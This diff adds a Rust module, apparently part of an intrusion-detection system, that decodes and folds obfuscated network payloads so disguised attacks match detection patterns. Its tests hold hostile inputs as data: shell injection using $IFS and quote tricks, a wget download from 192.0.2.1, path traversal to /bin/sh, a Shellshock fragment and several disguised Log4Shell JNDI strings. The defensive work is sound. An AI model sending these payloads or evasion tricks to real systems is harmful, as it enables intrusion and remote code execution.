@@ -1,0 +1,197 @@
+//! a payload as sent → the text that attackers can't vary for free: decoded, lower case, blanks folded.
+//!
+//! Deliberately absent: typing of addresses and random words (`grams`), which literals must not lose.
+
+use std::borrow::Cow;
+
+use super::decode;
+
+/// Of a longer payload its head and tail are judged: padding in the middle hides nothing.
+pub const MAX_PAYLOAD: usize = 64 * 1024;
+const TAIL: usize = 16 * 1024;
+const LAYERS: usize = 3;
+const BASE64_DEPTH: usize = 2;
+
+/// Decodes what is encoded (three layers of escapes, two of base64, whose texts are appended), and folds the rest:
+/// lower case, blanks only between words, `//` and `/./` as `/`.
+pub fn normalize(payload: &str) -> String {
+    let capped = cap(payload);
+    let plain = peel(&capped);
+    let mut out = String::with_capacity(plain.len() + 16);
+    fold(&plain, &mut out);
+    let mut layer = decode::base64_segments(&plain);
+    for _ in 0..BASE64_DEPTH {
+        let mut next = Vec::new();
+        for segment in layer {
+            let plain = peel(&segment);
+            if out.len() + plain.len() > 2 * MAX_PAYLOAD {
+                return out;
+            }
+            next.extend(decode::base64_segments(&plain));
+            out.push('\n');
+            fold(&plain, &mut out);
+        }
+        layer = next;
+    }
+    out
+}
+
+fn cap(payload: &str) -> Cow<'_, str> {
+    if payload.len() <= MAX_PAYLOAD {
+        return Cow::Borrowed(payload);
+    }
+    let head = &payload[..payload.floor_char_boundary(MAX_PAYLOAD - TAIL)];
+    let tail = &payload[payload.ceil_char_boundary(payload.len() - TAIL)..];
+    Cow::Owned(format!("{head} {tail}"))
+}
+
+fn peel(text: &str) -> Cow<'_, str> {
+    let mut text = Cow::Borrowed(text);
+    for _ in 0..LAYERS {
+        let decoded = match decode::escapes(&text) {
+            Cow::Owned(decoded) => Some(decoded),
+            Cow::Borrowed(_) => None,
+        };
+        let resolved = match decode::lookups(decoded.as_deref().unwrap_or(&text)) {
+            Cow::Owned(resolved) => Some(resolved),
+            Cow::Borrowed(_) => decoded,
+        };
+        match resolved {
+            Some(changed) => text = Cow::Owned(changed),
+            None => break,
+        }
+    }
+    match decode::redis_framing(&text) {
+        Cow::Owned(unframed) => Cow::Owned(unframed),
+        Cow::Borrowed(_) => text,
+    }
+}
+
+fn is_word(byte: u8) -> bool {
+    byte.is_ascii_alphanumeric() || byte == b'_' || byte >= 0x80
+}
+
+/// Appends the folded text. `+` is a blank in a query; NUL is dropped, which leaves UTF-16 of ASCII readable.
+fn fold(text: &str, out: &mut String) {
+    let bytes = text.as_bytes();
+    let mut blank = false;
+    let mut at = 0;
+    while let Some(&byte) = bytes.get(at) {
+        if byte >= 0x80 {
+            let Some(c) = text[at..].chars().next() else { break };
+            at += c.len_utf8();
+            match c {
+                char::REPLACEMENT_CHARACTER => blank = true,
+                _ if c.is_whitespace() => blank = true,
+                _ => {
+                    space(out, &mut blank, true);
+                    // Its upper case is `I`, which Java's case folding makes an `i`.
+                    if c == 'ı' {
+                        out.push('i');
+                    } else {
+                        out.extend(c.to_lowercase());
+                    }
+                }
+            }
+            continue;
+        }
+        at += 1;
+        match byte {
+            0 => {}
+            b'+' | b' ' | 0x01..=0x1F | 0x7F => blank = true,
+            b'$' if bytes.get(at..at + 3).is_some_and(|name| name.eq_ignore_ascii_case(b"ifs")) => {
+                at += 3;
+                // `$IFS$9`: an empty argument that ends the name.
+                if bytes.get(at..at + 2) == Some(b"$9") {
+                    at += 2;
+                }
+                blank = true;
+            }
+            b'/' if bytes[at..].starts_with(b"**/") => {
+                at += 3;
+                blank = true;
+            }
+            b'/' if out.ends_with('/') && !out.ends_with(":/") => {}
+            b'/' if out.ends_with("/.") => {
+                out.pop();
+            }
+            // `w''get` is `wget` to a shell.
+            b'\'' | b'"' if !blank && empty_quotes(out.as_bytes(), byte) => {
+                out.pop();
+            }
+            _ => {
+                space(out, &mut blank, is_word(byte));
+                out.push(char::from(byte.to_ascii_lowercase()));
+            }
+        }
+    }
+}
+
+fn space(out: &mut String, blank: &mut bool, before_word: bool) {
+    if std::mem::take(blank) && before_word && out.as_bytes().last().is_some_and(|&last| is_word(last)) {
+        out.push(' ');
+    }
+}
+
+fn empty_quotes(out: &[u8], quote: u8) -> bool {
+    matches!(out, [.., before, last] if *last == quote && is_word(*before))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn check(payload: &str, expect: &str) {
+        assert_eq!(normalize(payload), expect, "{payload}");
+    }
+
+    #[test]
+    fn what_is_varied_for_free_is_folded() {
+        check("GET  /A//b/./C?x=1%20OR\t2 HTTP/1.1\r\nHost: h", "get/a/b/c?x=1 or 2 http/1.1 host:h");
+        check("http://h//x", "http://h/x");
+        check("..%252f..%252f", "../../");
+        check("/cgi-bin/.%%32%65/.%%32%65/bin/sh", "/cgi-bin/../../bin/sh");
+        check("() { :; }", "(){:;}");
+        check("cd+/tmp;w''get$IFS$9x;cat${IFS}y/**/z", "cd/tmp;wget x;cat y z");
+        check("\u{0}a\u{0}b", "ab");
+    }
+
+    #[test]
+    fn log4j_in_disguise_is_log4j() {
+        for disguise in [
+            "${jndi:ldap://192.0.2.1/a}",
+            "%24%7Bjndi:ldap://192.0.2.1/a%7D",
+            "${${::-j}${::-n}${lower:D}i:${lower:${lower:L}}dap://192.0.2.1/a}",
+            r"\u0024\u007bJNDI:ldap://192.0.2.1/a}",
+            "${jnd${upper:ı}:ldap://192.0.2.1/a}",
+        ] {
+            check(disguise, "${jndi:ldap://192.0.2.1/a}");
+        }
+    }
+
+    #[test]
+    fn base64_is_read_twice_and_no_deeper() {
+        use base64::Engine as _;
+        let encode = |text: &str| base64::engine::general_purpose::STANDARD.encode(text);
+        let once = encode("wget http://192.0.2.1/once");
+        let thrice = encode(&encode(&encode("wget http://192.0.2.1/thrice")));
+        assert!(normalize(&once).contains("wget http://192.0.2.1/once"));
+        assert!(!normalize(&thrice).contains("thrice"));
+    }
+
+    #[test]
+    fn a_long_payload_is_judged_by_head_and_tail() {
+        let long = format!("head{}ü{}tail", "ä".repeat(100_000), "x".repeat(50_000));
+        let text = normalize(&long);
+        assert!(text.starts_with("head") && text.ends_with("tail"));
+        assert!(text.len() <= MAX_PAYLOAD + 16);
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn anything_is_bounded_and_stable(text in "[ -~%$\\{\\}\\\\&;\u{0}-\u{ff}]{0,300}") {
+            let once = normalize(&text);
+            proptest::prop_assert!(once.len() <= 3 * text.len() + 64);
+        }
+    }
+}
